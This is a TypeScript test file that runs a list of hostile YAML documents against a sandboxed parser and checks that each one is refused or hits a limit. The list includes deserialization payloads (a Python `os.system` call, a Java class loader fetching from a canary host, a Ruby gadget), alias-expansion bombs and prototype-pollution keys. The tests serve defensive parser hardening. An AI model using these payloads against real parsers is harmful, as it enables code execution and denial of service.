import { afterAll, expect } from 'vitest'
import { createContainment } from '../containment.ts'
import { type Canary, type EscapeAttempt, testEscapes } from '../testing/escape-table.ts'
import type { YamlOutcome } from './yaml-job.ts'

const DEADLINE_MS = 1000
const contained = createContainment({ workers: 2 })
afterAll(() => contained.close())

function attempt(title: string, document: (canary: Canary) => string, kinds: RegExp): EscapeAttempt {
  return {
    title,
    run: (canary) =>
      contained.yaml({
        owner: 'attacker',
        text: document(canary),
        isExpanding: true,
        limits: { deadlineMs: DEADLINE_MS },
      }),
    expected: (answer) => expect((answer as YamlOutcome).kind).toMatch(kinds),
  }
}

/** Lists that each contain the previous one several times. */
const levels = (count: number, each: number) =>
  Array.from({ length: count }, (_, i) => `l${i + 1}: &l${i + 1} [${Array(each).fill(`*l${i}`).join()}]\n`).join('')

testEscapes({
  power: 'YAML documents',
  deadlineMs: DEADLINE_MS,
  calm: () => contained.yaml({ owner: 'calm', text: 'calm: true' }),
  attempts: [
    attempt('a function', () => 'f: !!js/function "function () { return process.env }"', /refused/),
    attempt('a regular expression', () => 'r: !!js/regexp /(a+)+$/', /refused/),
    attempt(
      'a key with a function',
      () => '{ toString: !<tag:yaml.org,2002:js/function> "function () { process.exit(1) }" } : 1',
      /refused/,
    ),
    attempt('a command of Python', () => '!!python/object/apply:os.system ["id"]', /refused/),
    attempt(
      'a class of Java',
      ({ host }) => `!!javax.script.ScriptEngineManager [!!java.net.URL ["http://${host}/"]]`,
      /refused/,
    ),
    attempt('an object of Ruby', () => '--- !ruby/object:Gem::Installer\n  i: x\n', /refused/),
    attempt('an inclusion', ({ file }) => `a: !include ${file}`, /refused/),
    attempt('a tag directive with an address', ({ host }) => `%TAG ! tag:${host},2000:\n--- !a b`, /refused/),
    attempt('nine levels of nine aliases', () => `l0: &l0 [x,x,x,x,x,x,x,x,x]\n${levels(9, 9)}`, /limit/),
    attempt('thirty levels of two aliases', () => `l0: &l0 x\n${levels(30, 2)}`, /limit/),
    attempt(
      'a long text, repeated many times',
      () => `a: &a ${'x'.repeat(100_000)}\nb: [${Array(20_000).fill('*a').join()}]`,
      /limit/,
    ),
    attempt('a list that contains itself', () => '&a [*a]', /limit/),
    attempt('objects that contain each other', () => '&a\nb: &b\n  a: *a\n  b: *b', /limit/),
    attempt(
      'keys merged many times',
      () =>
        `a: &a {${Array.from({ length: 500 }, (_, i) => `k${i}: 1`).join()}}\n${Array.from({ length: 500 }, (_, i) => `b${i}: {<<: *a}`).join('\n')}`,
      /refused|limit|value/,
    ),
    attempt('a prototype', () => '__proto__: {polluted: 1}\nconstructor: {prototype: {polluted: 1}}', /value|refused/),
    attempt('a prototype to merge', () => 'a: &a {__proto__: {polluted: 1}}\nb: {<<: *a}', /value|refused/),
    attempt('deeply nested lists', () => '['.repeat(400_000), /limit|refused/),
    attempt('deeply nested lists by indentation', () => '- '.repeat(20_000), /limit|refused/),
    attempt('keys that are lists', () => `${'? '.repeat(20_000)}a`, /limit|refused/),
    attempt('a million documents', () => '---\n'.repeat(200_000), /refused|limit/),
    attempt('many anchors', () => Array.from({ length: 60_000 }, (_, i) => `- &a${i} x`).join('\n'), /value|limit/),
    attempt('many spaces', () => `a: "${' '.repeat(900_000)}\n"`, /value|limit|refused/),
    attempt('a text that resembles a number', () => `a: ${'1'.repeat(500_000)}.${'_'.repeat(400_000)}x`, /value|limit/),
    attempt('a text that resembles a timestamp', () => `a: 2001-01-01 ${' '.repeat(300_000)}x:`, /value|refused|limit/),
    attempt('bytes', () => `a: !!binary ${'QUJD'.repeat(200_000)}`, /value|limit|refused/),
  ],
})
